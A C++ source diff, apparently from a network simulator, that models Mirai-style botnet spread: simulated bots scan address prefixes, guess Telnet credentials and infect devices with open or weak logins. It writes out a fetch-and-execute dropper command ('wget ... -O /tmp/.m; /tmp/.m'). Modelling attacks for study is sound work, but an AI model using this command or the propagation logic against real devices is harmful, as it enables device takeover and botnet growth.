@@ -1,0 +1,105 @@
+#include "attackers/propagation.h"
+
+#include "attackers/credentials.h"
+#include "proto/telnet.h"
+
+namespace ofh::attackers {
+
+namespace {
+
+// A device is a potential victim if its Telnet console is reachable with no
+// authentication or with dictionary credentials.
+bool is_susceptible(const devices::Device& device) {
+  const auto& spec = device.spec();
+  if (spec.primary != proto::Protocol::kTelnet) return false;
+  return spec.misconfig == devices::Misconfig::kTelnetNoAuth ||
+         spec.misconfig == devices::Misconfig::kTelnetNoAuthRoot ||
+         spec.weak_credentials;
+}
+
+}  // namespace
+
+Epidemic::Epidemic(PropagationConfig config, devices::Population& population,
+                   const MalwareCorpus& corpus)
+    : config_(config),
+      population_(population),
+      corpus_(corpus),
+      rng_(util::Rng(config.seed).fork("epidemic")) {}
+
+std::size_t Epidemic::susceptible_count() const {
+  std::size_t count = 0;
+  for (const auto& device : population_.devices()) {
+    if (is_susceptible(*device)) ++count;
+  }
+  return count;
+}
+
+void Epidemic::deploy(net::Fabric& fabric) {
+  fabric_ = &fabric;
+  // Seed with unauthenticated-Telnet devices (trivially infected).
+  std::vector<devices::Device*> seeds;
+  for (const auto& device : population_.devices()) {
+    if (device->spec().misconfig == devices::Misconfig::kTelnetNoAuth ||
+        device->spec().misconfig == devices::Misconfig::kTelnetNoAuthRoot) {
+      seeds.push_back(device.get());
+    }
+  }
+  for (std::size_t i = 0; i < config_.initial_bots && !seeds.empty(); ++i) {
+    devices::Device* seed = seeds[rng_.below(seeds.size())];
+    if (infected_addresses_.count(seed->address().value()) != 0) continue;
+    infect(seed);
+  }
+}
+
+void Epidemic::infect(devices::Device* victim) {
+  if (!infected_addresses_.insert(victim->address().value()).second) return;
+  infected_.push_back(victim);
+  growth_.push_back({fabric_->sim().now(), infected_.size()});
+  start_bot(victim);
+}
+
+void Epidemic::start_bot(devices::Device* bot) {
+  // Exponential inter-attempt gaps (a Poisson scanning process per bot).
+  const double mean_gap_us =
+      3.6e9 / std::max(0.01, config_.attempts_per_bot_per_hour);
+  const auto delay =
+      static_cast<sim::Duration>(rng_.exponential(mean_gap_us));
+  fabric_->sim().after(delay, [this, bot] {
+    if (fabric_->sim().now() >= config_.duration) return;
+    bot_attempt(bot);
+    start_bot(bot);  // reschedule the loop
+  });
+}
+
+void Epidemic::bot_attempt(devices::Device* bot) {
+  if (!bot->attached()) return;
+  ++attempts_;
+  // Pick a target in the populated prefixes (local-preference scanning).
+  const auto& prefixes = population_.prefixes();
+  const auto& prefix = prefixes[rng_.below(prefixes.size())];
+  const util::Ipv4Addr target(
+      prefix.base().value() +
+      static_cast<std::uint32_t>(rng_.below(prefix.size())));
+  if (target == bot->address()) return;
+  if (infected_addresses_.count(target.value()) != 0) return;  // known bot
+
+  auto credentials = sample_credentials(proto::Protocol::kTelnet, rng_,
+                                        config_.credentials_per_attempt);
+  const auto& sample = corpus_.samples().front();  // the Mirai loader
+  std::vector<std::string> commands = {
+      "wget " + sample.dropper_url + " -O /tmp/.m; /tmp/.m"};
+
+  proto::telnet::TelnetClient::run(
+      *bot, target, 23, std::move(credentials), std::move(commands),
+      [this, target](const proto::telnet::TelnetClient::Result& result) {
+        if (!result.shell) return;
+        // Shell obtained: the dropper ran, the device joins the botnet.
+        net::Host* host = fabric_->host_at(target);
+        if (host == nullptr) return;
+        auto* victim = dynamic_cast<devices::Device*>(host);
+        if (victim == nullptr || !is_susceptible(*victim)) return;
+        infect(victim);
+      });
+}
+
+}  // namespace ofh::attackers
